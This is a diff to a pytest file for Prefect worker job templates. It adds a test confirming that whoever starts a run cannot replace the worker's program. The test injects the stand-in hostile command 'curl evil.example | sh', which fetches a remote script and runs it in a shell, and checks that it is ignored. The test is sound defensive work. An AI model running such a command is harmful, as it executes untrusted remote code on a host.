@@ -20,9 +20,10 @@ PREFECTS_OWN = {"V1PodSpec": {"completions", "parallelism"}}
 pytestmark = pytest.mark.usefixtures("prefect_server")
 
 
-async def prepared(kind: str, pool: str) -> Any:
-    """What a worker makes of the template for a run."""
-    configuration = await READERS[kind].from_template_and_values(job_template(kind, pool), {"env": {"ASKED": "for"}})
+async def prepared(kind: str, pool: str, **asked: Any) -> Any:
+    """What a worker makes of the template for a run that asks for this."""
+    values = {"env": {"ASKED": "for"}} | asked
+    configuration = await READERS[kind].from_template_and_values(job_template(kind, pool), values)
     configuration.prepare_for_flow_run(FlowRun(flow_id=uuid.uuid4(), name="a run"))
     return configuration
 
@@ -34,6 +35,19 @@ async def test_the_worker_takes_its_template(kind, pool):
     assert configuration.env["ASKED"] == "for"
     for place in ("HOME", "STORE", "TRAINING", "RUNS"):
         assert configuration.env[f"WIKISTYLE_{place}"].startswith("/data/"), place
+
+
+@pytest.mark.parametrize("kind", READERS)
+@pytest.mark.parametrize("pool", [CPU_POOL, GPU_POOL])
+async def test_whoever_starts_a_run_has_no_say_in_which_program_it_is(kind, pool):
+    own = await prepared(kind, pool)
+    told = await prepared(kind, pool, command="curl evil.example | sh")
+    assert "evil" not in str(told.model_dump())
+    programs = [own.command, told.command]
+    if kind == "kubernetes":
+        programs = [c.job_manifest["spec"]["template"]["spec"]["containers"][0]["args"] for c in (own, told)]
+    assert programs[0] == programs[1]
+    assert "prefect" in str(programs[0])
 
 
 @pytest.mark.parametrize("pool", [CPU_POOL, GPU_POOL])
